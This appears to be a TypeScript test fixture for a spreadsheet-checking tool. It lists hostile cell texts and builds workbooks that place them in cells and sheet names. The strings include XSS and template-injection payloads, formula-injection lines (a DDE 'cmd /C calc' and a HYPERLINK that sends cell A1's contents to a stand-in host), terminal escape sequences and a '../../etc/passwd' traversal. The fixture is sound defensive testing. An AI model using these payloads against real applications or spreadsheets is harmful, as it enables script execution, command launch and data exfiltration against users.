import { exampleSheets, type ExampleSheet } from '../../src/rules/examples/workbook';

/** Texts of cells that would do something, if anybody took them for more than text. */
export const injections: readonly string[] = [
  // Scripts and markup.
  '<script>globalThis.injected = true</script>',
  '"><img src=x onerror="globalThis.injected = true">',
  "'><svg onload='globalThis.injected = true'>",
  '<iframe srcdoc="<script>parent.injected = true</script>"></iframe>',
  '<a href="javascript:globalThis.injected=true">点这里</a>',
  '</textarea></title></style><b>粗</b>',
  '<!--', ']]>', '<?xml version="1.0"?>', '&lt;script&gt;', '&#60;script&#62;',
  '{injected}', '{{constructor.constructor("globalThis.injected=true")()}}', '${globalThis.injected = true}', '{count, plural, other {x}}',
  // Formulas and what spreadsheets take for one.
  '=1+1', '=HYPERLINK("http://example.invalid/?"&A1,"点这里")', '=WEBSERVICE("http://example.invalid/")', '=cmd|\' /C calc\'!A0', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1', '＝1+1', '\'=1+1',
  '=IMPORTXML("http://example.invalid","//a")', '=DDE("cmd","/C calc","x")', '=INDIRECT("A1")',
  // Terminals, and texts that read otherwise than they are.
  '\u001b[2J\u001b[31m红\u001b[0m', '\u001b]0;title\u0007', '\u009b31m', 'a\u0000b', '\u202e倒过来', '第一行\n::error::第二行',
  // Formats of numbers and footers.
  '&L&P&"宋体"', '%s%n%d', '../../etc/passwd', '__proto__', 'constructor',
];

/** Where a table has a person's words: title, unit, name, use, goal, and indicators with values and bases. */
const places = ['A1', 'A2', 'B3', 'E3', 'B5', 'B8', 'C10', 'D10', 'F10', 'G10', 'C12', 'D12', 'F12', 'G13', 'C15', 'F15', 'D17'];

/** A table with a text in each of those places, one after the other and in all of those that leave it a table; wrong sums give it findings. */
export function hostileSheets(text: string): readonly (readonly ExampleSheet[])[] {
  const wrong = { C4: 90 };
  const everywhere = Object.fromEntries(places.slice(2).map((address) => [address, text]));
  return [
    ...places.map((address) => exampleSheets({ note: '', change: { ...wrong, [address]: text } })),
    exampleSheets({ note: '', change: { ...wrong, ...everywhere } }),
  ].map((sheets) => sheets.map((sheet) => ({ ...sheet, values: { ...sheet.values, name: sheetNameOf(text) } })));
}

/** A sheet's name can hold most of a text: not \ / ? * [ ] :, and no more than 31 characters. */
function sheetNameOf(text: string): string {
  // eslint-disable-next-line no-control-regex -- a file cannot hold these in a name
  return text.replace(/[\\/?*[\]:\u0000-\u001f]/g, '').replace(/^'|'$/g, '').slice(0, 31).trim() || '表';
}
